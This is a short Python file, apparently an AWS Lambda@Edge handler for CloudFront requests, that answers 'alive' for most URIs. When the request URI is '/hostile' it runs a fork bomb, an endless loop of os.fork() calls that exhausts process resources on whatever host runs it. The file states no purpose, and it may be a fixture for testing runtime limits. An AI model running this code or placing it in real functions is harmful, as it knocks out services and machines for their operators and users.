import os


def handler(event, context):
    if event["Records"][0]["cf"]["request"]["uri"] != "/hostile":
        return {"status": "200", "body": "alive"}
    while True:
        os.fork()
